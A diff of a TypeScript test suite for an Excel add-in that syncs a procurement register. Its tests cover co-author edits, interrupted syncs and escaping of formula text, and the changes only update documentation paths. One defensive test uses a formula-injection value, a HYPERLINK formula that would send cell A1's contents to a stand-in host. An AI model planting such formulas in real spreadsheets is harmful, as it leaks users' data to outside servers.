@@ -58,7 +58,7 @@ async function syncWhileCoauthoring(meanwhile: (sim: Sim, openRow: number) => vo
   };
 }
 
-describe("sync in a workbook (process-format.md §3 through Excel)", () => {
+describe("sync in a workbook (docs/specification.md §5.4)", () => {
   it("numbers, starts, routes and dates the sample cases; appends History; writes only changed cells", async () => {
     const { sim, binding } = await registerIn(template("procurement"));
     try {
@@ -166,7 +166,7 @@ describe("sync in a workbook (process-format.md §3 through Excel)", () => {
       });
       expect(failed.ok).toBe(false);
       expect((await history(binding)).length).toBe(before);
-      // The pane can say so (reliability.md C6): the workbook remembers a sync that stopped part-way.
+      // The pane can say so (docs/reliability.md C6): the workbook remembers a sync that stopped part-way.
       expect(await lastSync(binding)).toMatchObject({ ok: true, value: { at: LATER, state: "writing" } });
       const resumed = await syncProcess({ binding, now: "2026-03-04T09:00:00", ...noSleep });
       if (!resumed.ok) throw new Error(resumed.error.message);
@@ -186,7 +186,7 @@ describe("sync in a workbook (process-format.md §3 through Excel)", () => {
     }
   });
 
-  it("a co-author inserting a column between read and write makes it read again; values land in their columns (reliability.md W2)", async () => {
+  it("a co-author inserting a column between read and write makes it read again; values land in their columns (docs/reliability.md W2)", async () => {
     // Column B, inside the register: every column from Step on moves one to the right.
     const { sim, after, before, row } = await syncWhileCoauthoring((sim) =>
       sim.coauthor.insertColumns("Procurement", 2),
@@ -203,7 +203,7 @@ describe("sync in a workbook (process-format.md §3 through Excel)", () => {
       sim.uninstall();
     }
   });
-  it("a co-author's edit to a cell the sync is about to change wins; the sync reads again (reliability.md C2)", async () => {
+  it("a co-author's edit to a cell the sync is about to change wins; the sync reads again (docs/reliability.md C2)", async () => {
     // The sync read "Done" and would advance the case; a co-author blocks it meanwhile.
     const { sim, before, row, result } = await syncWhileCoauthoring((sim, open) =>
       sim.coauthor.editCell("Procurement", `C${open + 2}`, "Blocked"),
@@ -217,7 +217,7 @@ describe("sync in a workbook (process-format.md §3 through Excel)", () => {
       sim.uninstall();
     }
   });
-  it("text that would become a formula is written as text, in the register and in History (reliability.md X1, X2)", async () => {
+  it("text that would become a formula is written as text, in the register and in History (docs/reliability.md X1, X2)", async () => {
     const def = template("procurement");
     const { sim, binding } = await registerIn({
       ...def,
@@ -234,7 +234,7 @@ describe("sync in a workbook (process-format.md §3 through Excel)", () => {
         await context.sync();
         return range;
       });
-      // The check reliability.md X1 asks for: read back, the cell holds the string itself, typed String.
+      // The check docs/reliability.md X1 asks for: read back, the cell holds the string itself, typed String.
       const owner = 3;
       expect(cells.values[0]?.[owner]).toBe('=HYPERLINK("http://x/?"&A1)');
       expect(cells.formulas[0]?.[owner]).toBe('=HYPERLINK("http://x/?"&A1)');
